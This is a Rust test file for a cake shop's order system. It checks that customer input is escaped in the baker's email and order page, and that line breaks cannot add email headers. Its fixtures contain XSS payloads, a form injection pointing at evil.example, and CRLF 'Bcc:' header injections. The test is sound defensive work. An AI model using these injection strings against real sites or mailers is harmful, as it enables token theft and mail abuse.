//! What a customer types reaches the baker's email and the link's page as text, never as markup
//! or headers: names, addresses and notes full of HTML, script URLs and line breaks change no
//! tag of the HTML and never reach the subject.

use crate::support::envelopes::{as_http, http_request};
use crate::support::{BAKER_EMAIL, Shop, body_text};
use cakeshop_domain::{Order, OrderId, Timestamp, parse_new_order};
use cakeshop_handlers::baker_email;
use serde_json::json;

const START: &str = "2026-11-20T09:00:00Z";

const HOSTILE_NAME: &str = r#"<img src=x onerror=alert(1)> "Ada" & 'co' javascript:alert(2)"#;
const HOSTILE_ADDRESS: &str =
    "<a href=\"javascript:alert(3)\">12 Analytical St</a>\r\nSubject: free cake\r\n\r\n<script>x()</script>";
const HOSTILE_NOTES: &str =
    "</td></tr></table><form action=\"https://evil.example\"><input name=token>\nBcc: thief@evil.example";

fn order_body(name: &str, address: &str, notes: &str) -> String {
    json!({ "name": name, "address": address, "productId": 3, "quantity": 2, "notes": notes, "email": "ada@example.com" })
        .to_string()
}

/// Every tag of an HTML document, in order, attributes included; but `<br>`, which is how the
/// templates show the line breaks of multi-line fields.
fn tags(html: &str) -> Vec<&str> {
    html.split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap_or_default())
        .filter(|tag| *tag != "br")
        .collect()
}

/// The baker's email and link page for one order placed with `body` in a fresh shop.
async fn email_and_page(body: &str) -> (cakeshop_ports::Email, String) {
    let shop = Shop::new(START, &["o-1"]);
    let (status, placed) = shop.place(body).await;
    assert_eq!(status, 201, "{placed}");
    shop.drain_stream().await;
    let sent = shop.mailer.sent.lock().expect("mailbox").clone();
    let email = sent
        .into_iter()
        .find(|email| email.to == BAKER_EMAIL)
        .expect("the baker's email");
    let start = email.text.find("token=").expect("a link") + "token=".len();
    let token = email.text[start..].split_whitespace().next().unwrap_or_default();
    let mut request = http_request("GET", "/order/fulfilled", "/order/fulfilled", json!({}), None);
    request["queryStringParameters"] = json!({ "token": token });
    let page = shop.fulfill_order.handle(as_http(&request)).await;
    assert_eq!(page.status_code, 200);
    (email, body_text(&page))
}

#[tokio::test]
async fn hostile_text_adds_no_markup_and_no_header_to_the_bakers_email_or_page() {
    let (benign_email, benign_page) = email_and_page(&order_body("Ada Lovelace", "12 Analytical St", "Happy")).await;
    let (email, page) = email_and_page(&order_body(HOSTILE_NAME, HOSTILE_ADDRESS, HOSTILE_NOTES)).await;

    assert_eq!(tags(&email.html), tags(&benign_email.html), "{}", email.html);
    assert_eq!(tags(&page), tags(&benign_page), "{page}");
    for html in [&email.html, &page] {
        // An apostrophe needs no escape in text; the email's escaper writes it as `&#39;`.
        let html = html.replace("&#39;", "'");
        assert!(html.contains("&lt;img src=x onerror=alert(1)&gt; &quot;Ada&quot; &amp; 'co'"));
        assert!(html.contains("&lt;script&gt;x()&lt;/script&gt;"));
        assert!(html.contains("&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;form"));
    }
    assert_eq!(
        email.subject, benign_email.subject,
        "nothing the customer typed is in the subject"
    );
    assert!(!email.subject.contains(['\r', '\n']));
    assert!(
        email.text.contains(HOSTILE_NAME),
        "the plain text part shows what was typed, as text"
    );
}

#[tokio::test]
async fn line_breaks_in_a_name_are_refused_before_anything_is_stored() {
    let shop = Shop::new(START, &["o-1"]);
    for name in [
        "Ada\r\nBcc: thief@evil.example",
        "Ada\nLovelace",
        "Ada\u{0}",
        "Ada\u{85}Lovelace",
    ] {
        let (status, response) = shop.place(&order_body(name, "1 Rd", "")).await;
        assert_eq!(status, 422, "{name:?} → {response}");
    }
    assert!(shop.orders.snapshot().is_empty() && shop.nothing_sent());
}

#[test]
fn the_subject_stays_on_one_line_even_if_a_stored_order_was_never_validated() {
    let at = Timestamp::from_unix_millis(1_795_165_200_000).expect("in range");
    let day = cakeshop_domain::Day::parse("2026-11-21").expect("a day");
    let new_order = parse_new_order(order_body("Ada", "1 Rd", "").as_bytes())
        .expect("valid")
        .priced(&cakeshop_domain::Catalogue::sample(), day)
        .expect("on sale");
    let mut order = Order::place(OrderId::parse("o-1").expect("id"), new_order, at);
    order.product_name = "Red velvet\r\nBcc: thief@evil.example\r\n\r\n<b>".into();
    let email = baker_email::compose(
        &order,
        "https://cakes.example.com/baker",
        "https://cakes.example.com/x",
        "from@x.y",
        "to@x.y",
        "k",
    );
    assert!(!email.subject.contains(['\r', '\n']), "{:?}", email.subject);
    assert!(
        email.subject.contains("Bcc: thief"),
        "the text stays, only the breaks go"
    );
    assert!(
        email
            .html
            .contains("Red velvet\r\nBcc: thief@evil.example\r\n\r\n&lt;b&gt;")
    );
}
